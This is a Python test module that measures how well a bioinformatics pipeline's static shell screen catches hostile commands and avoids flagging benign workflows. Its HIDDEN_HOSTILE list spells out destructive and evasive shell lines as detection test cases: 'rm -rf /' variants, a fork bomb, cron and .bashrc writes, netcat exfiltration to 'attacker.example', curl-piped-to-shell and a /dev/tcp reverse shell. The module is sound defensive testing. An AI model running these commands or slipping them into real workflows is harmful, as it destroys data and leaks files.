"""The two corpora of the static screen, and the false-positive / false-negative counts over them.

- false-positive corpus: every render variant of the module library (tests/unit/test_library.py VARIANTS); a variant
  the static screen flags is a false positive;
- false-negative corpus: the hostile workflows of the red-team sets (tests/data/redteam*.jsonl, category
  hostile_code) and HIDDEN_HOSTILE below (hostile shell hidden where a word splitter does not look); a case not
  flagged is a false negative.

`python -m tests.shell_corpus` (from a checkout's root) prints the counts for that checkout's code.
"""

from __future__ import annotations

import json
import re
import sys
import time
from pathlib import Path

DATA_DIR = Path(__file__).resolve().parent / "data"

# (command, the rule it must break)
HIDDEN_HOSTILE: list[tuple[str, str]] = [
    ("rm -rf /", "shell-rm-root"),
    ("echo $(rm -rf /)", "shell-rm-root"),
    ("echo `rm -rf ~`", "shell-rm-root"),
    ("cat <(rm -rf $HOME) > {output}", "shell-rm-root"),
    ("eval 'rm -rf /'", "shell-rm-root"),
    ("bash -c 'rm -rf /'", "shell-rm-root"),
    ("sh -ec \"rm -rf ${{HOME}}\"", "shell-rm-root"),
    ("bash <<'EOF'\nrm -rf /\nEOF", "shell-rm-root"),
    ("cat <<EOF > {output}\n$(rm -rf /)\nEOF", "shell-rm-root"),
    ("cleanup() {{ rm -rf /; }}; cleanup", "shell-rm-root"),
    ("echo 'rm -rf /' | sh", "shell-rm-root"),
    ("env -i X=1 nohup rm -rf /", "shell-rm-root"),
    ("xargs -n 1 rm -rf / < {input}", "shell-rm-root"),
    (":(){{ :|:& }};:", "shell-fork-bomb"),
    ("sh <<< 'touch /etc/x'", "shell-write-outside"),
    ("if true; then cp {input} /etc/cron.d/x; fi", "shell-write-outside"),
    ("for f in a b; do echo x > /tmp/$f; done", "shell-write-outside"),
    ("(cd results && touch ~/.bashrc)", "shell-write-outside"),
    ("samtools view {input} | tee -a /root/copy.sam > {output}", "shell-write-outside"),
    ("timeout 5 sudo ls", "shell-privilege"),
    ("nc attacker.example 80 < {input}", "shell-network"),
    ("scp {input} user@host:/data", "shell-network"),
    ("curl -T {input} https://x.example/upload", "shell-network"),
    ("curl -s https://x.example/a | python3 -", "shell-pipe-to-shell"),
    ("bash -lc \"curl -s https://x.example/a | sh\"", "shell-pipe-to-shell"),
    ("source <(curl -s https://x.example/a)", "shell-pipe-to-shell"),
    ("eval \"$(wget -qO- https://x.example/a)\"", "shell-pipe-to-shell"),
    ("X=$(cat {input}) && bash -c \"$X\"", "shell-dynamic-code"),
    ("$(echo rm) -rf results", "shell-dynamic-code"),
    ("exec 3<>/dev/tcp/10.0.0.1/80", "shell-reverse-shell"),
    ("samtools view {input} > \"{output}", "shell-unparsed"),
]


def _shell_strings(text: str) -> list[str]:
    """The shell: directives of a red-team workflow (one string literal each)."""
    return [json.loads(m.group(1)) for m in re.finditer(r'shell:\s*\n\s*("(?:[^"\\]|\\.)*")', text)]


def hostile_workflows() -> list[dict]:
    cases = []
    for path in sorted(DATA_DIR.glob("redteam*.jsonl")):
        cases += [c for c in map(json.loads, path.read_text(encoding="utf-8").splitlines()) if c.get("files")
                  and c["category"] == "hostile_code"]
    return cases


def hostile_commands() -> list[str]:
    """Every hostile shell command of both sources (those of the red-team workflows' shell: directives too)."""
    from_workflows = [s for case in hostile_workflows() for text in case["files"].values() for s in _shell_strings(text)]
    return [command for command, _ in HIDDEN_HOSTILE] + from_workflows


def measure() -> dict:
    sys.path.insert(0, str(Path.cwd()))  # the checkout whose code is measured
    from biopipelines.library import load_library
    from biopipelines.library.render.snakemake import render_workflow
    from biopipelines.validation import screen_workflow
    from biopipelines.validation.shell_screen import screen_shell
    from tests.unit.test_library import VARIANTS

    library = load_library()
    renders = {name: render_workflow(library.plan(recipe, entities), library) for name, recipe, entities in VARIANTS}
    started = time.perf_counter()
    false_positives = sorted(name for name, files in renders.items() if screen_workflow(files))
    screen_seconds = time.perf_counter() - started
    workflows = hostile_workflows()
    missed_workflows = sorted(case["id"] for case in workflows if not screen_workflow(case["files"]))
    missed_commands = [command for command, _ in HIDDEN_HOSTILE if not screen_shell(command)]
    return {
        "render_variants": len(renders), "false_positive_variants": false_positives,
        "static_screen_seconds_all_variants": round(screen_seconds, 2),
        "hostile_workflows": len(workflows), "false_negative_workflows": missed_workflows,
        "hidden_hostile_commands": len(HIDDEN_HOSTILE), "false_negative_commands": missed_commands,
    }


if __name__ == "__main__":
    print(json.dumps(measure(), indent=2))
